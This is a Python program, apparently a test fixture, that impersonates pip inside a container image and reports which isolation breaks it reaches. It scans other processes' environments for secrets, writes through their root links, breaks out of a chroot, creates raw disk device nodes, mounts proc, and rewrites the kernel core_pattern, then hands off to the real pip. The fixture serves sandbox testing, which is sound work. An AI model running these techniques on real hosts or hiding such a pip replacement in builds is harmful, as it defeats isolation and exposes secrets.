"""A program that wants out of the image it runs in, and says on standard error what it reached.

The tests put it into a base image, in the place of pip; afterwards it goes on as pip. It looks for a file of the machine
(TARGET) and for a text in other processes' environment (SECRET). Where it finds a way, it leaves a mark there and no
other harm.
"""

from __future__ import annotations

import ctypes
import os
import stat
import sys
from collections.abc import Iterator
from pathlib import Path

TARGET, SECRET = "@TARGET@", "@SECRET@"
MARK = "# a build step was here\n"
libc = ctypes.CDLL(None, use_errno=True)


def mark(path: str) -> bool:
    with open(path, "r+") as file:
        file.seek(0, os.SEEK_END)
        file.write(MARK)
    return True


def environment() -> Iterator[str]:
    if any(SECRET in value for value in os.environ.values()):
        yield "environment: the caller's variables"


def processes() -> Iterator[str]:
    for each in Path("/proc").glob("[0-9]*"):
        for what in ("environ", "cmdline"):
            try:
                if SECRET.encode() in (each / what).read_bytes():
                    yield f"{what} of another process"
            except OSError:
                pass
        for way in ("root", "cwd"):
            try:
                if mark(f"{each}/{way}{TARGET}"):
                    yield f"root of another process, by {way}"
            except OSError:
                pass


def escape() -> Iterator[str]:
    """The old way out of a chroot; in a child, which is out then."""
    child = os.fork()
    if child == 0:
        code = 1
        try:
            os.makedirs("/tmp/deeper", exist_ok=True)
            os.chroot("/tmp/deeper")
            for _ in range(30):
                os.chdir("..")
            os.chroot(".")
            code = 0 if mark(TARGET) else 1
        finally:
            os._exit(code)
    if os.waitpid(child, 0)[1] == 0:
        yield "chroot left"


def devices() -> Iterator[str]:
    found = list(_block_devices())
    numbers = {device.st_rdev for _, device in found}
    numbers |= {os.makedev(*map(int, each.name.split(":"))) for each in Path("/sys/dev/block").glob("*:*")}
    partitions = Path("/proc/partitions").read_text().splitlines()[2:]
    numbers |= {os.makedev(*map(int, line.split()[:2])) for line in partitions}
    for number in numbers:
        try:
            os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, number)
            os.close(os.open("/tmp/disk", os.O_RDONLY))
            yield "disk, by a device of its own"
        except OSError:
            pass
        Path("/tmp/disk").unlink(missing_ok=True)
    for path, _ in found:
        try:
            os.close(os.open(path, os.O_RDONLY))
            yield "disk, by a device of the machine"
        except OSError:
            pass


def _block_devices() -> Iterator[tuple[str, os.stat_result]]:
    """Unlike pathlib, os.walk goes on where a folder is gone: /dev/shm changes while we look."""
    for folder, _, files in os.walk("/dev"):
        for name in files:
            path = os.path.join(folder, name)
            try:
                status = os.lstat(path)
            except OSError:
                continue
            if stat.S_ISBLK(status.st_mode):
                yield path, status


def mounts() -> Iterator[str]:
    os.makedirs("/tmp/mounted", exist_ok=True)
    if libc.mount(b"proc", b"/tmp/mounted", b"proc", 0, None) == 0:
        libc.umount2(b"/tmp/mounted", 2)
        yield "mount"


def kernel() -> Iterator[str]:
    setting = Path("/proc/sys/kernel/core_pattern")
    try:
        setting.write_text(setting.read_text())
        yield "setting of the kernel"
    except OSError:
        pass


def main() -> None:
    for attempt in (environment, processes, escape, devices, mounts, kernel):
        try:
            for reached in sorted(set(attempt())):
                print(f"REACHED: {reached}", file=sys.stderr)
        except Exception as problem:  # noqa: BLE001 the other attempts count
            print(f"hostile: {attempt.__name__}: {problem}", file=sys.stderr)
    print("hostile: done", file=sys.stderr, flush=True)
    if os.path.basename(sys.argv[0]) == "pip":
        os.execv("/usr/bin/pip", sys.argv)


if __name__ == "__main__":
    main()
